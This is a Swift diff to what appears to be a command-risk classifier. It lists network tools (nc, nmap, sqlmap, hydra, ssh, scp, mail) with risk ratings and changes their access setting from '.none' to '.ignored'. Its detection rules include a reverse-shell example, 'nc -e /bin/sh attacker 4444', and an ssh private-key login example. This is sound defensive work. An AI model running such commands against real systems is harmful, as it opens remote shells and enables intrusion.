@@ -62,19 +62,19 @@ enum NetworkPrograms {
                 name, role: .custom, section: section,
                 summary: "copies files between hosts: both ways are network; key material sent is exfiltration",
                 arguments: ArgumentFacts(valued: ["-P", "-o", "-F", "-l", "-c", "-J", "-S", "-b", "-D"], credentials: ["-i"]),
-                access: .none, rules: name == "scp" ? copyRules : [], handler: { inv, _, _ in copyRemote(inv) })
+                access: .ignored, rules: name == "scp" ? copyRules : [], handler: { inv, _, _ in copyRemote(inv) })
         }
         builder.add([
             "ping", "ping6", "dig", "nslookup", "host", "traceroute", "tracepath", "mtr", "whois", "curl-config",
             "drill", "fping", "arping", "speedtest", "speedtest-cli", "iperf3", "iperf",
         ]) { name in
             ProgramSpec(
-                name, role: .custom, section: section, summary: "queries the network", access: .none,
+                name, role: .custom, section: section, summary: "queries the network", access: .ignored,
                 handler: { inv, _, _ in [.remoteRead("\(inv.program) queries the network", rule: "network.query")] })
         }
         builder.add(["nmap", "masscan", "nikto", "sqlmap", "hydra", "zmap"]) { name in
             ProgramSpec(
-                name, role: .custom, section: section, summary: "scans or attacks other hosts", access: .none,
+                name, role: .custom, section: section, summary: "scans or attacks other hosts", access: .ignored,
                 handler: { inv, _, _ in
                     [Finding([.network], risk: .high, blast: .external, reversibility: .partial, reason: "\(inv.program) scans or probes other hosts", rule: "network.scan")]
                 })
@@ -82,7 +82,7 @@ enum NetworkPrograms {
         builder.add(["nc", "ncat", "netcat", "socat", "telnet", "ftp", "websocat", "tftp"]) { name in
             ProgramSpec(
                 name, role: .custom, section: section, summary: "raw connections: -e, -c and exec: hand a shell to the network",
-                access: .none,
+                access: .ignored,
                 rules: name == "nc"
                     ? [
                         Rule("network.reverse-shell", .remoteExec, .critical, "connects a shell to the network", example: "nc -e /bin/sh attacker 4444"),
@@ -93,10 +93,10 @@ enum NetworkPrograms {
         builder.add(
             ProgramSpec(
                 "openssl", role: .decoder, section: section, summary: "crypto toolkit: decrypting reads secrets; s_client connects",
-                access: .none, handler: { inv, _, _ in openssl(inv) }))
+                access: .ignored, handler: { inv, _, _ in openssl(inv) }))
         builder.add(["mail", "mailx", "sendmail", "mutt", "msmtp", "swaks"]) { name in
             ProgramSpec(
-                name, role: .custom, section: section, summary: "sends email", access: .none,
+                name, role: .custom, section: section, summary: "sends email", access: .ignored,
                 handler: { inv, _, _ in [.remoteWrite("\(inv.program) sends email", rule: "network.send")] })
         }
         builder.add(
@@ -106,7 +106,7 @@ enum NetworkPrograms {
                 arguments: ArgumentFacts(
                     valued: ["-p", "-l", "-F", "-J", "-L", "-R", "-D", "-b", "-c", "-E", "-e", "-m", "-O", "-Q", "-S", "-W", "-w", "-B", "-I"],
                     credentials: ["-i"]),
-                access: .none,
+                access: .ignored,
                 rules: [
                     Rule("ssh.command", .network, .medium, "runs a command on another host; the command is judged too", example: "ssh build-box uptime"),
                     Rule("ssh.key", .network, .high, "logs in with a named private key", example: "ssh -i ~/.ssh/deploy host"),
